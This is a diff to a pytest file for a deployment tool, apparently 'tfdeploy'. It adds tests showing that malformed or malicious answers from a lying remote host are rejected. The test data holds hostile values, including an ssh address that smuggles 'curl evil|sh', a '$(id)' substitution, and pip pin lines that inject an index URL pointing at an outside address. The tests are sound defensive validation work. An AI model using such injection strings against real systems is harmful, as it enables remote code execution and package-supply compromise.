@@ -6,14 +6,15 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from doings import LIAR, OTHER, PLAN, Wires, syncs
+from doings import LIAR, OTHER, PLAN, Wires, probes, sets_up, syncs
 from honest import FILES, JOB, WORKDIR, Said, honest
 from hostile import LyingFleet
 
-from tfdeploy.errors import BadAnswer
+from tfdeploy.errors import BadAnswer, TfdeployError
 from tfdeploy.model.answers.hosts import Hello
 from tfdeploy.model.answers.reading import BadShape, read
 from tfdeploy.model.job import Job
+from tfdeploy.operations.setup import Environment, agreed
 from tfdeploy.operations.stop import Stopped, stop
 
 STAGING = f"{WORKDIR}/jobs/{JOB}/releases/.staging-x"
@@ -32,11 +33,15 @@ ASKED_FOR = {  # verb and answer, and what is said of it
 }
 
 
+def lying(verb: str, value: Any) -> LyingFleet:
+    return LyingFleet(lambda host, asked: Said([], value) if (host, asked) == (LIAR, verb) else None)
+
+
 @pytest.mark.fault("59 a host asks for files that are not for it")
 @pytest.mark.parametrize("case", ASKED_FOR)
 def test_only_entries_of_the_manifest_leave(case: str, wires: Wires, tmp_path: Path, job: Job) -> None:
     verb, value, words = ASKED_FOR[case]
-    found = syncs(LyingFleet(lambda host, asked: Said([], value) if (host, asked) == (LIAR, verb) else None), tmp_path, job)
+    found = syncs(lying(verb, value), tmp_path, job)
     assert isinstance(found[LIAR], BadAnswer) and words in found[LIAR].what and found[LIAR].exit_code == 1
     assert found[OTHER].sent == ["code", "data digits"]
     assert wires.sent[LIAR] == [] or (
@@ -58,3 +63,64 @@ def test_a_hello_is_checked_like_every_answer() -> None:
     for name, value in {"workdir": "tfdeploy", "clock": float("nan"), "pid": "1", "home": "/home/\x1b[2J"}.items():
         with pytest.raises(BadShape):
             read({**said, name: value}, Hello)
+
+
+@pytest.mark.fault("59 installed versions that are lines for another host's pip")
+@pytest.mark.parametrize(
+    "packages",
+    [
+        {"numpy": "6.6.6\n--find-links http://192.0.2.66/"},
+        {"numpy\n--index-url http://192.0.2.66/ x": "1"},
+        {"numpy @ http://192.0.2.66/x.whl": "1"},
+        {"-r": "1"},
+        {"numpy": "*"},
+        {"numpy": ""},
+        {"numpy": "1.0 ; python_version > '3'"},
+        {"Numpy": "1.0"},
+        {"numpy": "\uff11.0"},
+        {"numpy": "1" * 200},
+    ],
+)
+def test_what_a_host_has_installed_is_no_line_of_another_hosts_pins(packages: dict[str, str], job: Job, tmp_path: Path) -> None:
+    ready = {**honest("env.state", LIAR, {}).value, "ready": True, "by": "pip", "packages": packages}
+    found = sets_up(lying("env.state", ready), tmp_path, job)
+    assert isinstance(found[LIAR], BadAnswer) and "env.state" in found[LIAR].what
+    assert found[OTHER].made and found[OTHER].packages == {"numpy": "1.26.4", "typing-extensions": "4.9.0"}
+
+
+def test_pins_are_what_all_like_hosts_have() -> None:
+    def has(python: str, **packages: str) -> Environment:
+        return Environment("/e", python, "uv", packages)
+
+    there = [
+        has("3.11.2", numpy="1.26.4", rich="13.7"),
+        has("3.11.2", numpy="1.26.4", rich="0.1", evil="1"),
+        has("3.9.1", numpy="2"),
+    ]
+    assert agreed(there) == {"3.11.2": {"numpy": "1.26.4"}, "3.9.1": {"numpy": "2"}}
+
+
+FACTS = {
+    "an address for a shell": {"ssh_server_address": "10.0.0.1;curl evil|sh #"},
+    "a zone for a shell": {"ssh_server_address": "fe80::1%$(id)"},
+    "a name for an address": {"ssh_server_address": "n2"},
+    "an interpreter elsewhere": {"python": "python3\n"},
+    "a relative workdir": {"workdir": "../x"},
+    "a port of sshd": {"free_ports": [22]},
+    "endless memory": {"memory_bytes": 1e999},
+    "a core less than none": {"cores": -1},
+    "a clock that is no number": {"clock": float("nan")},
+    "a GPU with escapes": {"gpus": [{"index": 0, "name": "\x1b[2J", "memory_mib": 1, "used_mib": 0, "uuid": ""}]},
+    "loopback names of its own": {"hosts_file_loopback": ["n2"]},
+    "a version with a line": {"tensorflow": "2.21.0\nx"},
+    "a run that leads out": {"live_runs": [{"run": "../../x", "who": "me", "started": 1.0}]},
+    "a variable of its own": {"preset": ["A=1;B"]},
+}
+
+
+@pytest.mark.fault("59 facts that are no facts")
+@pytest.mark.parametrize("case", FACTS)
+def test_a_fact_that_does_not_parse_is_that_hosts_failure(case: str, job: Job, tmp_path: Path) -> None:
+    value = {**honest("probe", LIAR, {}).value, **FACTS[case]}
+    found = probes(lying("probe", value), tmp_path, job)
+    assert isinstance(found[LIAR], TfdeployError) and found[LIAR].where == LIAR and found[LIAR].exit_code in (1, 4)
